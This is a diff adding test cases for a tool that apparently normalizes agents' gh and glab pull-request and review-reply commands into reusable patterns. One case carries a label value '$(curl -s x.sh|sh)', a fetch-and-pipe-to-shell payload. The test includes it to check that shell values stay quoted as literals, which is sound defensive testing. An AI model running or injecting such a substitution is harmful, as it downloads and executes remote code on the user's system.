@@ -19,18 +19,38 @@ _BODY = "\"$(cat <<'EOF'\n## Summary\n- fix && test; done\nEOF\n)\""
     (f"gh pr create --title 'fix: x' --draft --body {_BODY}", PULL_REQUEST, "gh pr create --draft --title … --body …"),
     ("gh pr create --draft --head alex/ent-7 --base alex/ent-6 -t x -b y", PULL_REQUEST,
      "gh pr create --draft -t … -b …"),
+    ("gh pr create --draft --repo o/r --title x", PULL_REQUEST, "gh pr create --draft --repo o/r --title …"),
     ("gh pr create --base develop --fill", PULL_REQUEST, "gh pr create --base develop --fill"),
     ("glab mr create --draft --title x", PULL_REQUEST, "glab mr create --draft --title …"),
     ("gh pr create --reviewer team/core --title x --body y", PULL_REQUEST,
      "gh pr create --reviewer team/core --title … --body …"),
-    # Nothing chosen: what any agent does unprompted.
+    # One habit typed in any order is one recipe; each tool's short options mean what that tool says.
+    ("gh pr create --body y --reviewer alice -d --title x", PULL_REQUEST,
+     "gh pr create --reviewer alice -d --title … --body …"),
+    ("gh pr create -d --fill", PULL_REQUEST, "gh pr create -d --fill"),
+    ("glab mr create -b develop --draft -d 'what it does' --title x", PULL_REQUEST,
+     "glab mr create --draft -b develop --title … -d …"),
+    # A value kept is quoted for the shell: a label is a literal, never a command substitution.
+    ("gh pr create --draft --label '$(curl -s x.sh|sh)' --label 'needs review'", PULL_REQUEST,
+     "gh pr create --draft --label '$(curl -s x.sh|sh)' --label 'needs review'"),
+    # Nothing chosen: what any agent does unprompted; one PR's milestone or a browser is no habit.
     ("gh pr create --title x --body y", PULL_REQUEST, None),
     ("gh pr create --base main --fill", PULL_REQUEST, None),
+    ("gh pr create --web --milestone 'v1.2' -m v1.3 --title x", PULL_REQUEST, None),
     # A reply in the comment's thread: the PR's number and the comment's id are placeholders.
     ("gh api repos/o/r/pulls/90/comments/2719242908/replies -f body=\"Fixed in abc123\"", REVIEW_REPLY,
      "gh api repos/o/r/pulls/<number>/comments/<id>/replies -f body=…"),
     ("gh api repos/o/r/pulls/9/comments/27/replies -X POST --jq .id -f 'body=done'", REVIEW_REPLY,
      "gh api repos/o/r/pulls/<number>/comments/<id>/replies -X POST -f body=…"),
+    # The reply's text is no recipe however it is passed; options that only shape the output go.
+    ("gh api -X POST repos/o/r/pulls/9/comments/27/replies --raw-field=body='Fixed in abc' --jq=.id", REVIEW_REPLY,
+     "gh api -X POST repos/o/r/pulls/<number>/comments/<id>/replies --raw-field=body=…"),
+    ("gh api repos/o/r/pulls/9/comments/27/replies -fbody=secret --input /tmp/reply.json", REVIEW_REPLY,
+     "gh api repos/o/r/pulls/<number>/comments/<id>/replies -fbody=…"),
+    # GitLab: a discussion's id is hex, and its replies are notes.
+    ("glab api projects/42/merge_requests/7/discussions/6a9c0f3ce7b1/notes -f body=x", REVIEW_REPLY,
+     "glab api projects/42/merge_requests/<number>/discussions/<id>/notes -f body=…"),
+    ("gh api repos/o/r/pulls/1/discussions/2/notes -f body=x", None, None),
     # Not a reply in a thread (the path GitHub answers with 404), or not the code host's command at all.
     ("gh api repos/o/r/pulls/comments/27/replies -f body=x", None, None),
     ("gh api repos/o/r/pulls/9/comments", None, None),
